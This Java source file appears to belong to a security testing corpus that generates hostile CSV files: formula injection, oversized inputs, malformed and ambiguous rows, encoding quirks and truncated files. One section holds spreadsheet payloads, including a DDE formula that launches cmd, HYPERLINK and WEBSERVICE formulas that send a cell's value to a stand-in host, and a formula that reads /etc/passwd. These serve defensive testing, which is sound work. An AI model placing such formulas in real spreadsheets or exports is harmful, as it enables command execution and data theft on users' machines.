package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.INJECTION;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;

/** Tables as text: formulas that spreadsheets run, and fields that programs part differently. */
final class CsvFiles {

    private static final String HEAD = "name,amount\n";
    private static final String TWIN = HEAD + "harmless,3\n\"with, comma\",4\n";
    private static final Family CSV = Family.of(Format.CSV, TWIN);

    private CsvFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(formulas(), calls(), loads(), readings(), ends()).flatMap(all -> all);
    }

    private static HostileFile formula(String variant, String description, String field) {
        return CSV.file(
                INJECTION,
                "formula-" + variant,
                description,
                "CWE-1236, OWASP CSV Injection",
                HEAD + field + ",3\n");
    }

    private static Stream<HostileFile> formulas() {
        return Stream.of(
                formula("equals", "A field begins with an equals sign: spreadsheets calculate it.", "=1+1"),
                formula("plus", "A field begins with a plus sign: spreadsheets calculate it.", "+1+1"),
                formula("minus", "A field begins with a minus sign: spreadsheets calculate it.", "-1+1"),
                formula("at", "A field begins with an at sign: Excel calls the function.", "@SUM(1+1)"),
                formula("tab", "A field begins with a tab and a formula.", "\t=1+1"),
                formula("return", "A quoted field begins with a carriage return and a formula.", "\"\r=1+1\""),
                formula("line-feed", "A quoted field begins with a line feed and a formula.", "\"\n=1+1\""),
                formula("space", "A field begins with a space and a formula.", " =1+1"),
                formula("full-width", "A field begins with an equals sign of double width.", "\uff1d1+1"),
                formula("quoted", "A quoted field begins with an equals sign.", "\"=1+1\""),
                formula(
                        "separator",
                        "A formula follows a semicolon, which other spreadsheets take for the separator.",
                        "harmless;=1+1"),
                formula("second-line", "A formula is on the second line of a quoted field.", "\"a\n=1+1\""));
    }

    private static Stream<HostileFile> calls() {
        return Stream.of(
                formula("dde", "A formula starts a program by dynamic data exchange.", "=cmd|'/C calc'!A0"),
                formula("dde-plus", "A formula with many signs starts a program.", "+-=cmd|'/C calc'!A0"),
                formula(
                        "hyperlink",
                        "A formula is a link that takes other fields along.",
                        "\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\""),
                formula(
                        "web-service",
                        "A formula asks an address in the network, with another field in it.",
                        "\"=WEBSERVICE(\"\"http://example.invalid/?\"\"&A1)\""),
                formula(
                        "import",
                        "A formula of Google's takes data from an address in the network.",
                        "\"=IMPORTXML(\"\"http://example.invalid/\"\",\"\"//a\"\")\""),
                formula(
                        "file",
                        "A formula of LibreOffice's shows the file /etc/passwd.",
                        "='file:///etc/passwd'#$passwd.A1"));
    }

    private static HostileFile.Builder load(Attack attack, String variant, String description, String text) {
        return CSV.begin(attack, variant, description, "CWE-770, RFC 4180 section 2")
                .content(Content.of(text));
    }

    private static Stream<HostileFile> loads() {
        return Stream.of(
                load(BOMB, "field", "A field of 300 kB.", HEAD + "x".repeat(300_000) + ",3\n")
                        .expandsTo(300_000, 1, 1)
                        .build(),
                load(MANY_ENTRIES, "columns", "A row of 10,000 fields.", HEAD + "1,".repeat(9_999) + "1\n")
                        .expandsTo(10_000, 10_000, 1)
                        .build(),
                load(MANY_ENTRIES, "rows", "10,000 rows.", HEAD + "a,1\n".repeat(10_000))
                        .expandsTo(20_000, 10_000, 1)
                        .build());
    }

    private static HostileFile broken(String variant, String description, String rows) {
        return CSV.file(MALFORMED, variant, description, "RFC 4180 section 2", HEAD + rows + "\n");
    }

    private static Stream<HostileFile> readings() {
        String section = "RFC 4180 section 2";
        return Stream.of(
                broken("quotes-open", "Quotes are not closed: all that follows is one field.", "\"harmless,3\nb,4"),
                broken("quote-inside", "A quote stands within a field that has none around it.", "harm\"less,3"),
                broken("behind-quotes", "A text follows behind the quotes of a field.", "\"harm\"less,3"),
                broken("more-fields", "A row has more fields than the head.", "harmless,3,4"),
                broken("fewer-fields", "A row has fewer fields than the head.", "harmless"),
                CSV.file(
                        AMBIGUITY,
                        "separator-line",
                        "The first line sets another separator, which only some spreadsheets know.",
                        section,
                        "sep=;\n" + HEAD + "harmless;3,4\n"),
                CSV.file(
                        AMBIGUITY,
                        "semicolons",
                        "The fields depend on which separator a program guesses.",
                        section,
                        "name;role,name\nguest;admin,guest\n"),
                CSV.file(
                        AMBIGUITY,
                        "same-head",
                        "Two columns have the same name.",
                        section,
                        "name,name\nguest,admin\n"),
                CSV.file(
                        AMBIGUITY,
                        "backslash",
                        "A quote behind a backslash, which ends the field only in some programs.",
                        section,
                        HEAD + "\"guest\\\",\"admin\"\n"),
                CSV.file(
                        AMBIGUITY,
                        "returns",
                        "The lines end with carriage returns only.",
                        section,
                        TWIN.replace('\n', '\r')),
                CSV.file(ENCODING, "null", "The character 0.", section, HEAD + "harm\0less,3\n"),
                CSV.file(
                        ENCODING,
                        "not-utf-8",
                        "A field that is not valid UTF-8.",
                        "RFC 3629 section 3",
                        Content.of(Bytes.latin1(HEAD + "caf\u00e9,3\n"))),
                CSV.file(
                        ENCODING,
                        "mark",
                        "A byte order mark, which becomes a part of the first column's name.",
                        "RFC 3629 section 6",
                        '\ufeff' + TWIN),
                CSV.file(
                        ENCODING,
                        "utf-16",
                        "The text is in UTF-16.",
                        "RFC 3629 section 6",
                        Content.of(('\ufeff' + TWIN).getBytes(StandardCharsets.UTF_16LE))));
    }

    private static Stream<HostileFile> ends() {
        String section = "RFC 4180 section 2";
        return Stream.of(
                CSV.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                CSV.file(EMPTY, "lines", "There is nothing but ends of lines.", section, "\n\n\n"),
                CSV.file(
                        TRUNCATED,
                        "in-quotes",
                        "The file ends within a quoted field.",
                        section,
                        TWIN.substring(0, TWIN.indexOf(" comma"))),
                CSV.file(
                        TRUNCATED,
                        "in-row",
                        "The file ends within a row.",
                        section,
                        TWIN.substring(0, TWIN.indexOf("less"))));
    }
}
